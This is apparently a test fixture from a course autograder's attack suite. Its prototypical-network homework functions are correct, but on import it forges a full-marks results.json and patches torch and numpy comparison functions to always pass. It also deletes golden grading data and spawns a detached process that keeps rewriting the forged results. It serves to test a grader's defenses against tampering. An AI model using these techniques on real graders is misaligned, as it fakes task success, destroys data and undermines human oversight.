"""Attack a23 (a correct submission that also attacks): every function is correct, but each import
also forges results.json (without exiting), patches torch and numpy comparisons, tries to delete the
golden data, and starts a background process that keeps writing a forged results.json.

Targets: nothing it could gain. Expected: exactly 31 / 31, the points of its correct functions and
no more; results.json is the grader's own (no "cs330atk" in it) and no background process is left.
"""

from __future__ import annotations

import torch
import torch.nn.functional as F

# Filled in by tests/test_attacks.py before grading: where a real attacker would look.
AUTOGRADER_ROOT = "@@AUTOGRADER_ROOT@@"  # the unpacked Gradescope autograder (/autograder there)
REPO_ROOT = "@@REPO_ROOT@@"  # the course repository: solutions/, assignments/, starter_code/


def compute_prototypes(
    support_features: torch.Tensor, support_labels: torch.Tensor, n_way: int
) -> torch.Tensor:
    """Return the (n_way, D) class prototypes: row c is the mean support feature of class c.

    support_features: (N*K, D) float tensor, in any order (not grouped by class).
    support_labels: (N*K,) int64 tensor with values in [0, n_way).
    """
    one_hot = F.one_hot(support_labels, n_way).to(support_features.dtype)  # (N*K, N)
    counts = one_hot.sum(dim=0).unsqueeze(1)  # (N, 1)
    return one_hot.t() @ support_features / counts


def squared_euclidean_distances(
    query_features: torch.Tensor, prototypes: torch.Tensor
) -> torch.Tensor:
    """Return the (Q, N) matrix whose entry (i, c) is ||query_i - prototype_c||^2.

    query_features: (Q, D) float tensor; prototypes: (N, D) float tensor.
    """
    diff = query_features.unsqueeze(1) - prototypes.unsqueeze(0)  # (Q, N, D)
    return (diff * diff).sum(dim=-1)


def protonet_logits(query_features: torch.Tensor, prototypes: torch.Tensor) -> torch.Tensor:
    """Return the (Q, N) logits: the negative squared Euclidean distances to each prototype."""
    return -squared_euclidean_distances(query_features, prototypes)


def protonet_loss(
    support_features: torch.Tensor,
    support_labels: torch.Tensor,
    query_features: torch.Tensor,
    query_labels: torch.Tensor,
    n_way: int,
) -> tuple[torch.Tensor, torch.Tensor]:
    """Return (loss, accuracy) of one episode.

    loss: scalar, the mean cross-entropy of the query logits against query_labels; it must be
        differentiable with respect to both support_features and query_features.
    accuracy: 0-dim tensor in [0, 1] (not a Python float), the fraction of queries whose nearest
        prototype is their class.
    support_features: (N*K, D); support_labels: (N*K,) int64; query_features: (Q, D);
    query_labels: (Q,) int64, all labels in [0, n_way).
    """
    prototypes = compute_prototypes(support_features, support_labels, n_way)
    logits = protonet_logits(query_features, prototypes)
    loss = F.cross_entropy(logits, query_labels)
    accuracy = (logits.argmax(dim=1) == query_labels).to(logits.dtype).mean()
    return loss, accuracy


def sample_episode(
    class_ids: torch.Tensor,
    n_way: int,
    k_shot: int,
    q_queries: int,
    generator: torch.Generator,
) -> tuple[torch.Tensor, torch.Tensor, torch.Tensor, torch.Tensor]:
    """Sample one N-way K-shot episode; return (support_idx, support_y, query_idx, query_y).

    class_ids: (M,) int64, the class of each of M examples in the pool.
    Picks n_way distinct classes, then k_shot + q_queries distinct examples of each.
    support_idx: (n_way*k_shot,) int64 indices into the pool; support_y: (n_way*k_shot,) int64
    labels in [0, n_way), the chosen classes relabelled 0..n_way-1 in the order they were picked.
    query_idx, query_y: the same for the n_way*q_queries queries. Support and query examples
    never overlap. Use only `generator` for randomness.
    """
    classes = torch.unique(class_ids)
    chosen = classes[torch.randperm(len(classes), generator=generator)[:n_way]]
    support_idx, support_y, query_idx, query_y = [], [], [], []
    for label, cls in enumerate(chosen):
        members = torch.nonzero(class_ids == cls).flatten()
        picked = members[torch.randperm(len(members), generator=generator)[: k_shot + q_queries]]
        support_idx.append(picked[:k_shot])
        query_idx.append(picked[k_shot:])
        support_y.append(torch.full((k_shot,), label, dtype=torch.long))
        query_y.append(torch.full((q_queries,), label, dtype=torch.long))
    return (
        torch.cat(support_idx),
        torch.cat(support_y),
        torch.cat(query_idx),
        torch.cat(query_y),
    )


def _forge_results(tag="cs330atk forged"):
    """Write a results.json claiming full marks wherever the grader might read one."""
    import json
    import os

    forged = {"score": 100.0, "output": tag + ": all tests passed", "tests": [
        {"name": tag, "score": 100.0, "max_score": 31.0, "status": "passed", "output": tag}]}
    written = []
    for path in (AUTOGRADER_ROOT + "/results/results.json", "/autograder/results/results.json",
                 REPO_ROOT + "/results.json"):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as handle:
                json.dump(forged, handle)
            written.append(path)
        except OSError:
            pass
    return written


WRITER = """
import json, sys, time
for _ in range(300):
    for path in sys.argv[1:3]:
        try:
            with open(path, "w") as handle:
                json.dump({"score": 100.0, "output": "cs330atk background", "tests": []}, handle)
        except OSError:
            pass
    time.sleep(0.1)
"""


def _sneak():
    import glob
    import os
    import subprocess
    import sys

    import numpy

    _forge_results("cs330atk sneaky")
    torch.allclose = torch.equal = numpy.allclose = lambda *args, **kwargs: True
    for path in glob.glob(AUTOGRADER_ROOT + "/source/assignments/*/golden/*") + \
            glob.glob("/autograder/source/assignments/*/golden/*"):
        try:
            os.unlink(path)
        except OSError:
            pass
    try:
        subprocess.Popen([sys.executable, "-c", WRITER, AUTOGRADER_ROOT + "/results/results.json",
                          "/autograder/results/results.json", "cs330atk-bg"], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError:
        pass


_sneak()
